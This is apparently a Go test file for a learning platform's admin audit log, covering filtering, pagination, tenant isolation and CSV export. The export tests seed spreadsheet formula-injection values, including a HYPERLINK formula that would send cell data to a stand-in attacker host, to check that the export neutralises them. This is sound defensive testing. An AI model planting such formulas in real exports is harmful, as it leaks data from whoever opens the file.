package server_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/PuerkitoBio/goquery"

	"github.com/upward-lms/upward/internal/postgres"
)

// logEvent is an audit event written straight into a portal's log.
type logEvent struct {
	at                     time.Time
	actor, action, subject string
	detail                 string // JSON
}

func writeAuditEvents(t *testing.T, s *testServer, tenantID int64, events ...logEvent) {
	t.Helper()
	ctx := context.Background()
	err := s.db.InTenantTx(ctx, tenantID, func(tx *postgres.Tx) error {
		for _, e := range events {
			if e.detail == "" {
				e.detail = "{}"
			}
			if _, err := tx.Exec(ctx, `INSERT INTO audit_events (tenant_id, at, actor_label, action, subject, ip, detail)
				VALUES ($1, $2, $3, $4, $5, '198.51.100.4', $6)`, tenantID, e.at, e.actor, e.action, e.subject, e.detail); err != nil {
				return err
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
}

// auditSubjects is the "About" column of an audit page.
func auditSubjects(p page) []string {
	var out []string
	p.doc.Find(`[data-testid="audit"] tbody tr`).Each(func(_ int, tr *goquery.Selection) {
		out = append(out, strings.TrimSpace(tr.Find("td").Eq(3).Text()))
	})
	return out
}

// readCSV downloads a CSV and parses it.
func readCSV(t *testing.T, c *client, path string) (*http.Response, []byte, [][]string) {
	t.Helper()
	res, body := c.raw(path)
	records, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatalf("%s is not CSV: %v\n%s", path, err, body)
	}
	return res, body, records
}

func TestAdminAudit_Filters(t *testing.T) {
	t.Parallel()
	s, acme, globex := twoPortals(t, withAdmin)
	day := time.Date(2025, 3, 1, 9, 0, 0, 0, time.UTC)
	writeAuditEvents(t, s, acme.ID,
		logEvent{at: day, actor: "ann@acme.test", action: "signin", subject: "e1"},
		logEvent{at: day.Add(time.Hour), actor: "bob@acme.test", action: "user.invite", subject: "e2"},
		logEvent{at: day.AddDate(0, 0, 1), actor: "bob@acme.test", action: "user.update", subject: "e3"},
		logEvent{at: day.AddDate(0, 0, 2), actor: "ann@acme.test", action: "group.create", subject: "e4"},
	)
	writeAuditEvents(t, s, globex.ID, logEvent{at: day, actor: "bob@acme.test", action: "user.invite", subject: "globex-secret"})
	admin := adminClient(t, s)

	cases := map[string][]string{
		"/admin/audit?action=user&to=2025-03-02":                             {"e3", "e2"},
		"/admin/audit?actor=BOB":                                             {"e3", "e2"},
		"/admin/audit?from=2025-03-02&to=2025-03-02":                         {"e3"},
		"/admin/audit?action=signin&actor=ann&from=2025-03-01&to=2025-03-03": {"e1"},
		"/admin/audit?to=2025-03-31":                                         {"e4", "e3", "e2", "e1"},
	}
	for path, want := range cases {
		t.Run(path, func(t *testing.T) {
			p := admin.get(path)
			if got := auditSubjects(p); p.status != http.StatusOK || !slices.Equal(got, want) {
				t.Errorf("status %d, events %v, want %v", p.status, got, want)
			}
		})
	}
	t.Run("TheFormShowsTheFilter", func(t *testing.T) {
		p := admin.get("/admin/audit?action=user&actor=bob&from=2025-03-01")
		for field, want := range map[string]string{"action": "user", "actor": "bob", "from": "2025-03-01", "to": ""} {
			if got, _ := p.doc.Find("#f-" + field).Attr("value"); got != want {
				t.Errorf("%s = %q, want %q", field, got, want)
			}
		}
		if href, _ := p.doc.Find(`[data-testid="audit-csv"]`).Attr("href"); href != "/admin/audit.csv?action=user&actor=bob&from=2025-03-01" {
			t.Errorf("CSV link %q", href)
		}
	})
	t.Run("NothingMatches", func(t *testing.T) {
		p := admin.get("/admin/audit?action=nothing.like.this")
		if p.status != http.StatusOK || p.doc.Find(`[data-testid="audit-empty"]`).Length() != 1 {
			t.Errorf("status %d", p.status)
		}
	})
	t.Run("BadDatesAreShownAtTheirFields", func(t *testing.T) {
		p := admin.get("/admin/audit?from=yesterday&to=2025-13-01")
		if p.status != http.StatusUnprocessableEntity || p.text(`[data-testid="error-from"]`) == "" || p.text(`[data-testid="error-to"]`) == "" {
			t.Errorf("status %d", p.status)
		}
		if p.doc.Find(`[data-testid="audit"]`).Length() != 0 {
			t.Error("events listed under a bad filter")
		}
		p = admin.get("/admin/audit?from=2025-03-02&to=2025-03-01")
		if p.status != http.StatusUnprocessableEntity || p.text(`[data-testid="error-to"]`) == "" {
			t.Errorf("reversed dates: %d", p.status)
		}
	})
	t.Run("AForgedCursorIsRefused", func(t *testing.T) {
		if p := admin.get("/admin/audit?before=drop-table"); p.status != http.StatusUnprocessableEntity {
			t.Errorf("status %d", p.status)
		}
	})
	t.Run("NeverAnotherPortalsEvents", func(t *testing.T) {
		if strings.Contains(admin.get("/admin/audit?actor=bob").doc.Text(), "globex-secret") {
			t.Error("acme's log shows globex's event")
		}
	})
}

func TestAdminAudit_OlderPagesHaveNoGapsOrRepeats(t *testing.T) {
	t.Parallel()
	s, acme, _ := twoPortals(t, withAdmin)
	at := time.Date(2025, 3, 1, 9, 0, 0, 0, time.UTC)
	var events []logEvent
	for i := range 130 {
		// Ten events share each moment, so page edges fall inside ties.
		events = append(events, logEvent{at: at.Add(time.Duration(i/10) * time.Second), actor: "ann@acme.test", action: "course.enrolment", subject: fmt.Sprintf("evt-%03d", i)})
	}
	writeAuditEvents(t, s, acme.ID, events...)
	admin := adminClient(t, s)

	var seen []string
	path := "/admin/audit?action=course"
	for pages := 0; path != ""; pages++ {
		if pages > 10 {
			t.Fatal("the Older links do not end")
		}
		p := admin.get(path)
		if p.status != http.StatusOK {
			t.Fatalf("%s: %d", path, p.status)
		}
		seen = append(seen, auditSubjects(p)...)
		path, _ = p.doc.Find(`[data-testid="audit-older"]`).Attr("href")
		if pages > 0 && p.doc.Find(`[data-testid="audit-newest"]`).Length() != 1 {
			t.Errorf("page %d has no way back to the newest", pages+1)
		}
		if path != "" && !strings.Contains(path, "action=course") {
			t.Errorf("the Older link drops the filter: %s", path)
		}
	}
	var want []string
	for i := 129; i >= 0; i-- {
		want = append(want, fmt.Sprintf("evt-%03d", i))
	}
	if !slices.Equal(seen, want) {
		t.Errorf("pages give %d events:\n%v\nwant %d:\n%v", len(seen), seen, len(want), want)
	}
}

func TestAdminAudit_CSVExport(t *testing.T) {
	t.Parallel()
	s, acme, globex := twoPortals(t, withAdmin)
	at := time.Date(2025, 3, 1, 9, 0, 0, 0, time.UTC)
	writeAuditEvents(t, s, acme.ID,
		logEvent{at: at, actor: `=HYPERLINK("http://evil.example/?x="&A1,"Click")`, action: "user.update", subject: "+SUM(1,2)",
			detail: `{"note": "=HYPERLINK(\"http://evil.example\")"}`},
		logEvent{at: at.Add(time.Minute), actor: "ann@acme.test", action: "group.create", subject: "Sales, \"North\"\nteam"},
		logEvent{at: at.Add(2 * time.Minute), actor: "@ann", action: "signin", subject: "-1"},
	)
	writeAuditEvents(t, s, globex.ID, logEvent{at: at, actor: "secret@globex.test", action: "user.update", subject: "globex-secret"})
	admin := adminClient(t, s)

	res, body, records := readCSV(t, admin, "/admin/audit.csv")
	if res.StatusCode != http.StatusOK || !strings.HasPrefix(res.Header.Get("Content-Type"), "text/csv") ||
		res.Header.Get("Content-Disposition") != `attachment; filename="audit-acme.csv"` {
		t.Fatalf("%d %q %q", res.StatusCode, res.Header.Get("Content-Type"), res.Header.Get("Content-Disposition"))
	}
	if !slices.Equal(records[0], []string{"When (UTC)", "Who", "What", "About", "From", "Detail"}) {
		t.Errorf("header %v", records[0])
	}
	byAction := map[string][]string{}
	for _, r := range records[1:] {
		if r[4] == "198.51.100.4" { // the fixture's, not the sign-ins of the test's own users
			byAction[r[2]] = r
		}
	}

	t.Run("FormulaCellsAreNeutralised", func(t *testing.T) {
		update := byAction["user.update"]
		if update == nil {
			t.Fatalf("no user.update row in %v", records)
		}
		if update[1] != `'=HYPERLINK("http://evil.example/?x="&A1,"Click")` || update[3] != "'+SUM(1,2)" {
			t.Errorf("row %q", update)
		}
		if update[0] != "2025-03-01 09:00:00" {
			t.Errorf("time %q", update[0])
		}
		// The detail is a JSON object: it starts with {, which no
		// spreadsheet runs.
		if !strings.HasPrefix(update[5], "{") || !strings.Contains(update[5], "HYPERLINK") {
			t.Errorf("detail %q", update[5])
		}
		signin := byAction["signin"]
		if signin[1] != "'@ann" || signin[3] != "'-1" {
			t.Errorf("row %q", signin)
		}
	})
	t.Run("QuotedAsRFC4180", func(t *testing.T) {
		if got := byAction["group.create"][3]; got != "Sales, \"North\"\nteam" {
			t.Errorf("subject read back as %q", got)
		}
		if !bytes.Contains(body, []byte("\"Sales, \"\"North\"\"\r\nteam\"")) ||
			bytes.Contains(bytes.ReplaceAll(body, []byte("\r\n"), nil), []byte("\n")) {
			t.Errorf("raw CSV:\n%q", body)
		}
	})
	t.Run("NewestFirst", func(t *testing.T) {
		_, _, records := readCSV(t, admin, "/admin/audit.csv?to=2025-03-01")
		var got []string
		for _, r := range records[1:] {
			got = append(got, r[2])
		}
		if !slices.Equal(got, []string{"signin", "group.create", "user.update"}) {
			t.Errorf("order %v", got)
		}
	})
	t.Run("NeverAnotherPortalsEvents", func(t *testing.T) {
		if bytes.Contains(body, []byte("globex")) {
			t.Errorf("acme's export holds globex's event:\n%s", body)
		}
		_, body, _ := readCSV(t, admin, "/admin/audit.csv?actor=secret")
		if bytes.Contains(body, []byte("globex")) {
			t.Errorf("a filtered export holds globex's event:\n%s", body)
		}
	})
	t.Run("KeepsOnlyWhatTheFilterKeeps", func(t *testing.T) {
		_, _, records := readCSV(t, admin, "/admin/audit.csv?action=group&to=2025-03-01")
		if len(records) != 2 || records[1][2] != "group.create" {
			t.Errorf("filtered export: %v", records)
		}
	})
	t.Run("ABadFilterIsAFormNotAFile", func(t *testing.T) {
		res, _ := admin.raw("/admin/audit.csv?from=soon")
		if res.StatusCode != http.StatusUnprocessableEntity || strings.HasPrefix(res.Header.Get("Content-Type"), "text/csv") {
			t.Errorf("%d %q", res.StatusCode, res.Header.Get("Content-Type"))
		}
	})
	t.Run("LearnersMayNotExport", func(t *testing.T) {
		ana := newClient(t, s, "acme.localhost")
		signIn(ana, "ana@acme.test", goodPassword)
		if res, _ := ana.raw("/admin/audit.csv"); res.StatusCode != http.StatusForbidden {
			t.Errorf("learner export: %d", res.StatusCode)
		}
	})
}
